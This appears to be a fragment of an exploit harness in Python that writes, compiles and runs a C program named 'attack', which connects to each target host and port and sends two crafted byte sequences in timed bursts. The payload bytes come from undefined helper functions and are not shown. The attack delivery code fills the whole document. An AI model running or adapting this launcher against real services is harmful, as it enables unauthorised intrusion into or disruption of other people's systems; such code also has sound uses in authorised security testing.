# Writes by: a program in C, compiled there
# needs: cc
# with: rawCa
import shutil
import subprocess
compiler = shutil.which("cc") or shutil.which("gcc") or "cc"
first, then = hello() + create(), write(1) + write(2)
with open("attack.c", "w") as file:
    file.write("#include <arpa/inet.h>\n#include <string.h>\n#include <stdlib.h>\n#include <sys/socket.h>\n#include <unistd.h>\n"
        + f"unsigned char first[] = {{{','.join(map(str, first))}}}, then[] = {{{','.join(map(str, then))}}};\n"
        + "int main(int n, char **a) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in to; memset(&to, 0, sizeof to); to.sin_family = AF_INET;"
        + " to.sin_port = htons(atoi(a[2])); inet_pton(AF_INET, a[1], &to.sin_addr); if (connect(s, (void *)&to, sizeof to)) return 1;"
        + " write(s, first, sizeof first); usleep(400000); write(s, then, sizeof then); usleep(400000); return 0; }\n")
subprocess.run([compiler, "-o", "attack", "attack.c"], timeout=20, check=True)
for host, port in addresses():
    subprocess.run(["./attack", host, str(port)], timeout=10)
